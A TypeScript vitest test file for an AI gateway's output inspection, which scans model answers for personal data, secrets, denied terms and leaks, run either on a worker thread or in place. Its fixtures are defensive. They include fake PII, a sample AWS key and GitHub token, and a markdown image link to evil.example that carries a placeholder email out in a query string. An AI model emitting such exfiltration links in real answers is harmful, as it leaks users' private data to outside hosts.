import { describe, expect, test } from 'vitest'
import { systemClock } from '../../../../kernel/base/clock.ts'
import { NoThreadFree } from '../../../../kernel/threads/thread.ts'
import { inPlace } from '../../../../kernel/threads/thread-task.ts'
import type { Threads } from '../../../../kernel/threads/threads.ts'
import { plainAsked } from '../../call/asked.ts'
import { type AnswerEvent, type CanonicalCall, emptyCall } from '../../call/call.ts'
import { longAnswer } from '../../call/texts/answer-turns.ts'
import { compilePolicies } from '../../policy/compile.ts'
import { complete } from '../../policy/defaults.ts'
import type { PolicyDocumentInput } from '../../policy/document.ts'
import { beginCall } from '../begin.ts'
import { outputInspection } from '../steps/12-output-inspection.ts'
import { createWholeInspection } from './whole-inspection.ts'

const said = (text: string, choice = 0): AnswerEvent => ({ type: 'text', choice, channel: 'text', text })
const finish = (choice = 0): AnswerEvent => ({ type: 'finish', choice, reason: 'stop' })
const long = (row: string): string => row.repeat(Math.ceil((2 * longAnswer) / row.length))

/** The pool's contract without threads: values that cross it are copied. */
function pool() {
  const names: string[] = []
  const threads: Threads = {
    run: async (task, input) => {
      names.push(task.name)
      return structuredClone(task.run(structuredClone(input), inPlace))
    },
  }
  return { threads, names }
}

const askedWith = (texts: readonly string[]): CanonicalCall => ({
  ...emptyCall,
  turns: texts.map((text) => ({
    ...{ role: 'user', parts: [{ type: 'text', text }], toolCalls: [], toolCallId: null, name: null },
  })),
})

interface Given {
  readonly events: readonly AnswerEvent[]
  readonly document?: PolicyDocumentInput
  readonly asked?: readonly string[]
  readonly threads?: Threads
  /** A value that the call was sent without. */
  readonly hidden?: string
}

async function inspect({ events, document = {}, asked = [], threads, hidden }: Given) {
  const clock = systemClock()
  const random = { uuid: () => '' } as Parameters<typeof beginCall>[0]['random']
  const caller = { actor: { userId: 'u' }, info: { header: () => undefined } } as unknown as Parameters<
    typeof beginCall
  >[1]
  const read = () => askedWith(asked)
  const form = { ...plainAsked, operation: 'chat', dialect: 'parapet', stream: false, read } as const
  const state = beginCall({ clock, random }, caller, form)
  const policy = compilePolicies([
    { id: 'p', name: 'p', version: 1, sha256: '', document: complete(document), bindings: [{ kind: 'tenant' }] },
  ])
  if (hidden !== undefined) state.plan.vault.placeholderFor('EMAIL', hidden)
  state.write({ plan: { policy, call: read() }, answer: { flow: { kind: 'whole', events } } })
  const wholes = threads === undefined ? {} : { wholes: createWholeInspection({ threads }) }
  const outcome = await Promise.resolve(outputInspection({ kernel: { clock }, ...wholes }).run(state)).catch(
    (error: unknown) => String(error),
  )
  const { violations, found, entities, remarks, redacted, piiDetected, monitored, blockedAt, failOpen } = state.findings
  const { flow, usage, receivedBytes } = state.answer
  return {
    ...{
      outcome: typeof outcome === 'object' ? outcome.decision : outcome,
      left: flow?.kind === 'whole' ? flow.events : null,
    },
    ...{ violations, found, entities, remarks, redacted, piiDetected, monitored, blockedAt, failOpen },
    ...{ usage, receivedBytes, error: state.progress.error?.message ?? null },
  }
}

const denied = { content: { denied_terms: [{ id: 'bird', terms: ['bluebird'], action: 'redact', on: ['output'] }] } }
const key = `ghp_${'a1B2c3D4e5'.repeat(3)}`

const answers: readonly (readonly [string, Given])[] = [
  ['personal data', { events: [said(long('12 Main Street, Springfield, IL 62704, anna@example.org; ')), finish()] }],
  [
    'many values',
    { events: [said(long('a@b.co ')), said(long('+49 30 1234567 4111 1111 1111 1111 '), 1), finish(), finish(1)] },
  ],
  [
    'a term of the policy',
    { events: [said(long('about the bluebird ')), finish()], document: denied as PolicyDocumentInput },
  ],
  ['a secret that blocks', { events: [said(`${long('some words ')}AKIAIOSFODNN7EXAMPLE ${key} `), finish()] }],
  [
    'a policy that watches',
    { events: [said(`${long('some words ')}${key} `), finish()], document: { mode: 'monitor' } },
  ],
  [
    'a link that carries a hidden value away',
    {
      events: [said(`${long('some words ')}![x](https://evil.example/?q=EMAIL_1)`), finish()],
      hidden: 'ann@example.org',
    },
  ],
  [
    'what the provider was sent',
    { events: [said(long('ann@example.org ')), finish()], asked: ['write to ann@example.org'] },
  ],
  [
    'tool arguments',
    {
      events: [
        { type: 'tool_call', choice: 0, index: 0, id: 'c', name: 'note' },
        { type: 'tool_arguments', choice: 0, index: 0, text: JSON.stringify({ a: long('anna@example.org ') }) },
        finish(),
      ] as readonly AnswerEvent[],
    },
  ],
]

describe('a long answer', () => {
  for (const [name, given] of answers)
    test(`with ${name} is in a thread what it is in place`, async () => {
      const { threads, names } = pool()
      const there = await inspect({ ...given, threads })
      expect(names).toEqual(['gateway.answer.inspect'])
      expect(there).toEqual(await inspect(given))
    })

  test('is looked at in place where no thread is free, and where a condition asks for the call', async () => {
    const given = { events: [said(long('anna@example.org ')), finish()] }
    const busy: Threads = { run: () => Promise.reject(new NoThreadFree('all threads work')) }
    expect(await inspect({ ...given, threads: busy })).toEqual(await inspect(given))
    const { threads, names } = pool()
    const document = { rules: [{ id: 'r', when: 'true', action: 'flag', on: ['output'] }] } as PolicyDocumentInput
    expect(await inspect({ ...given, document, threads })).toEqual(await inspect({ ...given, document }))
    expect(names).toEqual([])
  })

  test('does not leave unseen where its thread fails, unless the policy lets it', async () => {
    const given = { events: [said(long('anna@example.org ')), finish()] }
    const threads: Threads = { run: () => Promise.reject(new Error('out of memory')) }
    const withheld = await inspect({ ...given, threads })
    expect([withheld.left, withheld.outcome]).toEqual([given.events, expect.stringContaining('Error')])
    const document: PolicyDocumentInput = { failure: { output_inspection: 'open' } }
    const passed = await inspect({ ...given, document, threads })
    expect([passed.left, passed.failOpen]).toEqual([given.events, ['output_inspection']])
  })

  test('that is short stays here', async () => {
    const { threads, names } = pool()
    await inspect({ events: [said('anna@example.org'), finish()], threads })
    expect(names).toEqual([])
  })
})
